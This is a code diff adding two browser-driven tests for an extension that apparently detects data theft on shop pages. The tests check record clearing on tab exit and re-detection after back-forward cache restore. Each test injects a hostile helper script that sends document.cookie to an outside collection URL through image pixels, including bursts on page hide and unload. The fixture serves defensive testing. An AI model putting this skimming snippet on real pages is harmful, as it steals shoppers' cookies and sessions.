@@ -158,6 +158,79 @@ describeEachBrowser('lifecycle', (context) => {
     });
   }
 
+  it('a shop page still reporting as its tab leaves the shop: its last findings do not bring the record back', async () => {
+    const saq = await context.launch();
+    const tag = 'last-words';
+    // Pixels every 25 ms, and a burst as the page is hidden: findings are in flight when the tab leaves.
+    const helper = `(() => { let i = 0; const send = () => { new Image().src = ${JSON.stringify(telegramUrl(tag))} + '/p' + (i++) + '?c=' + encodeURIComponent(document.cookie); };
+      setInterval(send, 25);
+      addEventListener('pagehide', () => { for (let k = 0; k < 20; k++) send(); });
+      addEventListener('beforeunload', () => { for (let k = 0; k < 20; k++) send(); }); })();`;
+    const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
+    const visit = await open(saq, path);
+    await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixels judged');
+    await visit.page.goto(`https://${HOSTS.epay}/pay`, { waitUntil: 'load' });
+    await eventually(
+      () => saq.report(visit.tabId),
+      (report) => report.pageUrl === null && report.findingCount === 0,
+      'the record cleared when the tab left the shop',
+    );
+    // What the old page sent as it went arrives now or never; none of it may make a record for this tab.
+    await sleep(1500);
+    const after = await saq.report(visit.tabId);
+    expect(after.findingCount, "the old page's last findings made a record for a tab that left the shop").toBe(0);
+    expect(after.verdicts).toEqual([]);
+    if (context.browserName === 'chromium') {
+      await eventually(
+        () => workerListensToTabs(saq),
+        (listens) => !listens,
+        'the worker to stop listening to tabs',
+      );
+    }
+  });
+
+  it('a shop page the tab goes back to from the back-forward cache is watched again: the helper acting there is judged', async () => {
+    const saq = await context.launch();
+    const tag = 'bfcache';
+    // A pixel when the page loads and one each time it is shown again; the page notes how it came back.
+    const helper = `(() => { let i = 0; const send = () => { new Image().src = ${JSON.stringify(telegramUrl(tag))} + '/p' + (i++) + '?c=' + encodeURIComponent(document.cookie); };
+      send();
+      addEventListener('pageshow', (e) => { if (e.persisted) { window.__restored = true; send(); } }); })();`;
+    const path = await serveHostilePage(
+      context.shop,
+      `${PRODUCT}?life=${tag}`,
+      PRODUCT,
+      { end: fromCdn(tag) },
+      { [tag]: helper },
+      {
+        // Fixtures are served `no-store`, which keeps a page out of the cache; the replica's own product page is not.
+        'Cache-Control': 'no-cache',
+      },
+    );
+    const visit = await open(saq, path);
+    await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixel judged');
+    await visit.page.goto(`https://${HOSTS.epay}/pay`, { waitUntil: 'load' });
+    await eventually(
+      () => saq.report(visit.tabId),
+      (report) => report.pageUrl === null,
+      'the record cleared when the tab left the shop',
+    );
+    // A page restored from the cache fires no load event, and Firefox's driver waits for one in vain: the
+    // page's own word says when it is back.
+    void visit.page.goBack({ timeout: 10_000 }).catch(() => null);
+    await eventually(
+      () => visit.page.evaluate(() => (window as unknown as { __restored?: boolean }).__restored === true).catch(() => false),
+      Boolean,
+      'the page restored from the back-forward cache (else this test proves nothing)',
+    );
+    const back = await eventually(
+      () => saq.report(visit.tabId),
+      (report) => report.pageUrl !== null && report.verdicts.some(ofKind('exfiltration', mentions('/p1?'))),
+      'the restored page recorded again and its pixel judged',
+    );
+    expect(back.pageUrl).toContain(`life=${tag}`);
+  });
+
   it('a browser restart with the same profile: the feed state survives, the alarm is there, detection works', async () => {
     const profile = mkdtempSync(join(tmpdir(), 'saq-profile-'));
     const firefoxUuid = randomUUID();
